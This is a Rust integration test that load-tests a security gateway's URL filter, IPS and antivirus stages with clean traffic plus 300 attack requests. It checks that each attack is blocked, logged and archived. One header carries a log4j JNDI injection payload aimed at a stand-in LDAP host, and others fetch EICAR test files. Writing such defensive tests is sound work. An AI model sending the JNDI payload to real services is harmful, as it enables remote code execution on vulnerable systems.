//! CI load smoke: every stage on — the URL filter (bundled lists), the IPS (every ET Open rule
//! of the corpora plus the bundled rules), the AV (bundled YARA and ClamAV signatures) — and an
//! MSS file sink. 2,000 clean HTTPS requests on 16 keep-alive tunnels run alongside 300 attacks
//! (100 hosts of the malware category over plain HTTP, 100 log4j JNDI headers and 100 EICAR
//! downloads over decrypted HTTPS). Asserts: no error on clean traffic, every attack blocked
//! with its event, the communication log and the MSS file complete, and the gateway's peak
//! resident memory under a bound. Counts, not wall-clock times.
#![allow(clippy::unwrap_used)]

mod common;

use std::collections::HashSet;
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use common::{connect_tunnel, corpus, eicar, repo, Files, Gateway, Origin, TestPki};
use http_body_util::{BodyExt, Empty};
use rustls_pki_types::pem::PemObject;
use rustls_pki_types::{CertificateDer, ServerName};

const CLEAN_TUNNELS: usize = 16;
const CLEAN_PER_TUNNEL: usize = 125;
const ATTACKS_EACH: usize = 100;
/// Peak resident memory bound for the gateway (ET Open, YARA and ClamAV loaded; debug build;
/// 247 MiB measured).
const RSS_BOUND_KIB: u64 = 512 * 1024;

type Sender = hyper::client::conn::http1::SendRequest<Empty<Bytes>>;

async fn tls_sender(
    proxy: std::net::SocketAddr,
    port: u16,
    tls: &tokio_rustls::TlsConnector,
) -> Sender {
    let tcp = connect_tunnel(proxy, &format!("localhost:{port}")).await;
    let s = tls
        .connect(ServerName::try_from("localhost").unwrap(), tcp)
        .await
        .unwrap();
    let (send, conn) = hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(s))
        .await
        .unwrap();
    tokio::spawn(async move {
        let _ = conn.await;
    });
    send
}

async fn get(send: &mut Sender, uri: &str, host: &str, headers: &[(&str, &str)]) -> (u16, Bytes) {
    send.ready().await.unwrap();
    let mut req = http::Request::get(uri).header("host", host);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let resp = tokio::time::timeout(
        Duration::from_secs(60),
        send.send_request(req.body(Empty::new()).unwrap()),
    )
    .await
    .unwrap()
    .unwrap();
    let status = resp.status().as_u16();
    let body = resp.into_body().collect().await.unwrap().to_bytes();
    (status, body)
}

/// ATTACKS_EACH requests, each on its own decrypted tunnel: (URL, status).
async fn tunnel_attacks(
    proxy: std::net::SocketAddr,
    port: u16,
    tls: tokio_rustls::TlsConnector,
    uri: fn(usize) -> String,
    headers: &'static [(&'static str, &'static str)],
) -> Vec<(String, u16)> {
    let host = format!("localhost:{port}");
    let mut statuses = Vec::new();
    for i in 0..ATTACKS_EACH {
        let mut send = tls_sender(proxy, port, &tls).await;
        let u = uri(i);
        let (s, _) = get(&mut send, &u, &host, headers).await;
        statuses.push((format!("https://{host}{u}"), s));
    }
    statuses
}

fn files() -> Files {
    let mut f = Files::new();
    let text = |n: usize| -> Vec<u8> {
        "Ward 3 rounds at 9. Claims batch accepted.\n"
            .repeat(n / 43 + 1)
            .into_bytes()[..n]
            .to_vec()
    };
    let html = vec![("content-type".to_string(), "text/html".to_string())];
    f.insert("/1k".into(), (html.clone(), text(1024)));
    f.insert("/64k".into(), (html, text(64 * 1024)));
    f.insert(
        "/eicar.com".into(),
        (
            vec![(
                "content-type".to_string(),
                "application/octet-stream".to_string(),
            )],
            eicar(),
        ),
    );
    f
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_stage_on_mixed_clean_and_attack_traffic() {
    let Some(et) = corpus("et-open") else {
        return;
    };
    let pki = TestPki::new("Smoke Origin CA", &["localhost", "127.0.0.1"]);
    let origin = Origin::start_with_files(Some(pki.server_config()), files()).await;
    let tmp = common::TempDir::new("smoke-extra");
    std::fs::write(tmp.path().join("origin-ca.pem"), &pki.ca_pem).unwrap();
    let extra = format!(
        "[urlfilter]\ncategory_dirs = [\"{url}\"]\n\n\
         [ips]\nrules = [\"{et}/*.rules\", \"{bundled}/sekisho.rules\"]\nclassification = \"{et}/classification.config\"\n\n\
         [av]\nyara = [\"{yara}\"]\nclamav = [\"{clamav}\"]\ncache_dir = \"\"\n\n\
         [mss]\nspool_dir = \"{spool}\"\n[[mss.sink]]\nname = \"archive\"\nkind = \"file\"\npath = \"{archive}\"\nformat = \"json\"\n",
        url = repo().join("rules/url/categories").display(),
        et = et.display(),
        bundled = repo().join("rules/ips").display(),
        yara = repo().join("rules/yara").display(),
        clamav = repo().join("rules/clamav").display(),
        spool = tmp.path().join("spool").display(),
        archive = tmp.path().join("mss.jsonl").display(),
    );
    let tls_extra = format!(
        "upstream_roots = [\"{}\"]",
        tmp.path().join("origin-ca.pem").display()
    );
    let gw = Gateway::start("smoke", &tls_extra, &extra);
    let mut roots = rustls::RootCertStore::empty();
    for c in CertificateDer::pem_file_iter(gw.ca_path()).unwrap() {
        roots.add(c.unwrap()).unwrap();
    }
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let cfg = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    let tls = tokio_rustls::TlsConnector::from(Arc::new(cfg));
    let proxy = gw.proxy;
    let port = origin.port;
    let host = format!("localhost:{port}");

    // Clean traffic: 16 keep-alive tunnels, 1 KiB and 64 KiB pages.
    let mut tasks = Vec::new();
    for t in 0..CLEAN_TUNNELS {
        let tls = tls.clone();
        let host = host.clone();
        tasks.push(tokio::spawn(async move {
            let mut send = tls_sender(proxy, port, &tls).await;
            let mut bad = Vec::new();
            for i in 0..CLEAN_PER_TUNNEL {
                let (path, len) = if (t + i) % 4 == 0 {
                    ("/64k", 64 * 1024)
                } else {
                    ("/1k", 1024)
                };
                let (status, body) = get(&mut send, path, &host, &[]).await;
                if status != 200 || body.len() != len {
                    bad.push(format!("{path}: {status} {} bytes", body.len()));
                }
            }
            bad
        }));
    }
    // Attacks, alongside.
    let ips = tokio::spawn(tunnel_attacks(
        proxy,
        port,
        tls.clone(),
        |i| format!("/api/v1/login?attack={i}"),
        &[("x-api-version", "${jndi:ldap://203.0.113.9:1389/a}")],
    ));
    let av = tokio::spawn(tunnel_attacks(
        proxy,
        port,
        tls.clone(),
        |i| format!("/eicar.com?download={i}"),
        &[],
    ));
    let url = tokio::spawn(async move {
        let mut statuses = Vec::new();
        for i in 0..ATTACKS_EACH {
            let tcp = tokio::net::TcpStream::connect(proxy).await.unwrap();
            let (mut send, conn) =
                hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tcp))
                    .await
                    .unwrap();
            tokio::spawn(async move {
                let _ = conn.await;
            });
            let h = format!("c{i}.malware.sekisho.test");
            let uri = format!("http://{h}/payload/{i}");
            let (s, _) = get(&mut send, &uri, &h, &[]).await;
            statuses.push((uri, s));
        }
        statuses
    });
    let mut clean_errors = Vec::new();
    for t in tasks {
        clean_errors.extend(t.await.unwrap());
    }
    assert!(
        clean_errors.is_empty(),
        "clean requests failed: {clean_errors:?}"
    );
    let mut attacks = Vec::new();
    for (stage, t) in [("ips", ips), ("av", av), ("url", url)] {
        for (u, s) in t.await.unwrap() {
            assert_eq!(s, 403, "{stage} attack {u} was not blocked");
            attacks.push((stage, u));
        }
    }
    // Every attack has its blocking event (matched by URL and stage); nothing else blocked.
    let deadline = Instant::now() + Duration::from_secs(30);
    let blocked = loop {
        let ev = gw.events();
        let blocked: HashSet<(String, String)> = ev
            .iter()
            .filter(|e| e["event"]["action"] == "blocked")
            .map(|e| {
                (
                    e["stage"].as_str().unwrap().to_string(),
                    e["http"]["url"].as_str().unwrap_or("").to_string(),
                )
            })
            .collect();
        if attacks
            .iter()
            .all(|(s, u)| blocked.contains(&(s.to_string(), u.clone())))
            || Instant::now() > deadline
        {
            break blocked;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    for (s, u) in &attacks {
        assert!(
            blocked.contains(&(s.to_string(), u.clone())),
            "no {s} event for {u}"
        );
    }
    let attack_urls: HashSet<&str> = attacks.iter().map(|(_, u)| u.as_str()).collect();
    let stray: Vec<&(String, String)> = blocked
        .iter()
        .filter(|(_, u)| !attack_urls.contains(u.as_str()))
        .collect();
    assert!(stray.is_empty(), "clean traffic blocked: {stray:?}");
    // The communication log: one line per request and one per CONNECT tunnel.
    let requests = CLEAN_TUNNELS * CLEAN_PER_TUNNEL + 3 * ATTACKS_EACH;
    let tunnels = CLEAN_TUNNELS + 2 * ATTACKS_EACH;
    let flows = || {
        std::fs::read_to_string(gw.dir.path().join("flows.jsonl"))
            .unwrap_or_default()
            .lines()
            .count()
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    while flows() < requests + tunnels && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(flows(), requests + tunnels, "communication log lines");
    // The MSS file sink has every threat event the local log has.
    let local: HashSet<String> = gw
        .events()
        .iter()
        .map(|e| e["event"]["id"].as_str().unwrap().to_string())
        .collect();
    let archived = || -> HashSet<String> {
        std::fs::read_to_string(tmp.path().join("mss.jsonl"))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|v| v["event_type"] == "alert")
            .filter_map(|v| v["event"]["id"].as_str().map(str::to_string))
            .collect()
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    while !local.is_subset(&archived()) && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(local.is_subset(&archived()), "MSS file sink missed events");
    let rss = gw.peak_rss_kib();
    println!(
        "smoke: {} clean requests, {} attacks blocked, {} threat events, {} flow lines, peak RSS {} MiB",
        CLEAN_TUNNELS * CLEAN_PER_TUNNEL,
        attacks.len(),
        local.len(),
        flows(),
        rss / 1024
    );
    assert!(
        rss > 0 && rss < RSS_BOUND_KIB,
        "peak RSS {rss} KiB over {RSS_BOUND_KIB} KiB"
    );
    gw.assert_metrics(&["sekisho_mss_events_acked_total{sink=\"archive\"}"])
        .await;
}
